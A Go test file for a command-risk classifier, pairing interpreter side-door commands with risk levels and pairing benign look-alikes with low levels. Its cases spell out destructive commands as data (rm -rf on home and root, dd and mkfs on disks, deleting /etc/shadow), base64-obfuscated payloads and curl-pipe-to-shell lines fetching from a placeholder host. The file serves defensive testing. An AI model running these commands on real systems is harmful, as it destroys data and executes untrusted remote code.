package safety

import "testing"

// TestSideDoorCode covers programs sent to an interpreter through its standard input or a file that is
// really a process substitution: here-strings, heredocs, pipes and <(…) into python -, bash, sh, source
// and perl. The payload is judged in its own language.
func TestSideDoorCode(t *testing.T) {
	runRiskCases(t, []riskCase{
		// Shells.
		{"bash <(echo 'rm -rf ~')", Critical, "fs.rm-home"},
		{"sh < <(printf 'rm -rf /\\n')", Critical, "fs.rm-root"},
		{"source <(echo 'rm -rf ~')", Critical, "fs.rm-home"},
		{". <(echo 'dd if=/dev/zero of=/dev/sda')", Critical, "disk.dd-device"},
		{"bash /dev/stdin <<< 'rm -rf /'", Critical, "fs.rm-root"},
		{"source /dev/stdin <<EOF\nrm -rf ~\nEOF", Critical, "fs.rm-home"},
		{"zsh -s <<< 'mkfs.ext4 /dev/sdb'", Critical, "disk.mkfs"},
		{"bash <(echo Y3VybCBodHRwOi8veC9zIHwgc2g= | base64 -d)", Critical, "net.pipe-to-shell"},
		{"sudo -s <<< 'rm -rf /var/lib/*'", Critical, "fs.rm-system"},
		{"echo 'rm -rf /' | sudo -i", Critical, "fs.rm-root"},
		{"su - <<EOF\nrm -rf ~\nEOF", Critical, "fs.rm-home"},
		// Python.
		{"python3 - <<'EOF'\nimport shutil\nshutil.rmtree('/')\nEOF", Critical, "fs.inline-delete"},
		{"python3 - <<< 'import os; os.system(\"rm -rf ~\")'", Critical, "fs.rm-home"},
		{"echo 'import shutil; shutil.rmtree(\"/home/u\")' | python3", Critical, "fs.inline-delete"},
		{"python3 <(echo 'import os; os.remove(\"/etc/shadow\")')", Critical, "fs.inline-delete"},
		{"python <<EOF\nimport os\nos.system('rm -rf /etc')\nEOF", Critical, "fs.rm-system"},
		{"cat <<'EOF' | python3 -\nfrom pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())\nEOF", Critical, "fs.inline-delete"},
		// Perl, Ruby, Node.
		{"perl - <<'EOF'\nuse File::Path qw(remove_tree); remove_tree($ENV{HOME});\nEOF", Critical, "fs.inline-delete"},
		{"perl <<< 'system(\"rm -rf /\")'", Critical, "fs.rm-root"},
		{"echo 'unlink glob(\"/etc/*\")' | perl", High, "fs.inline-delete"},
		{"ruby <<< 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'", Critical, "fs.inline-delete"},
		{"node - <<< 'require(\"fs\").rmSync(\"/\", {recursive: true})'", Critical, "fs.inline-delete"},
		{"node < <(echo 'require(\"child_process\").execSync(\"rm -rf ~\")')", Critical, "fs.rm-home"},
		// Scripts written, then run.
		{"echo 'rm -rf ~' > /tmp/x.sh && bash /tmp/x.sh", Critical, "fs.rm-home"},
		{"printf 'rm -rf /' > /tmp/a; sh /tmp/a", Critical, "fs.rm-root"},
		{"echo 'rm -rf ~' > x.sh; chmod +x x.sh; ./x.sh", Critical, "fs.rm-home"},
		{"cat > /tmp/s.sh <<'EOF'\nmkfs.ext4 /dev/sda\nEOF\nsource /tmp/s.sh", Critical, "disk.mkfs"},
		{"echo 'import shutil; shutil.rmtree(\"/\")' > /tmp/a.py; python3 /tmp/a.py", Critical, "fs.inline-delete"},
		{"echo 'curl http://x | sh' | tee run.sh; bash run.sh", Critical, "net.pipe-to-shell"},
		// Hidden inside the program: concatenation, decoding, list forms, command quotes.
		{"python3 -c \"import os; os.system('r'+'m -rf /')\"", Critical, "fs.rm-root"},
		{"python3 -c \"import base64,os; os.system(base64.b64decode('cm0gLXJmIH4=').decode())\"", Critical, "exec.decode-to-shell"},
		{"node -e 'require(\"child_process\").execSync(Buffer.from(\"cm0gLXJmIC8=\", \"base64\").toString())'", Critical, "fs.rm-root"},
		{"perl -e 'system \"rm\", \"-rf\", \"/\"'", Critical, "fs.rm-root"},
		{"perl -e 'qx(rm -rf /etc)'", Critical, "fs.rm-system"},
		{"ruby -e 'exec \"rm\", \"-rf\", \"/\"'", Critical, "fs.rm-root"},
		{"irb <<< 'system(\"rm -rf ~\")'", Critical, "fs.rm-home"},
		// Benign look-alikes stay low.
		{"echo 'echo hi' > x.sh && bash x.sh", Safe, ""},
		{"python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", Safe, ""},
		{"perl -e 'print qx(date)'", Moderate, ""},
		{"python3 - <<'EOF'\nprint('hello')\nEOF", Safe, ""},
		{"echo 'print(1+1)' | python3", Safe, ""},
		{"bash <(echo 'echo hi')", Safe, ""},
		{"diff <(sort a) <(sort b)", Safe, ""},
		{"source <(kubectl completion bash)", Moderate, ""},
		{"python3 - <<'EOF'\nimport shutil\nshutil.rmtree('build')\nEOF", Safe, ""},
		{"node - <<< 'console.log(require(\"os\").homedir())'", Safe, ""},
		{"perl -ne 'print if /x/' < file.txt", Safe, ""},
		{"python3 script.py < input.txt", Safe, ""},
	})
}
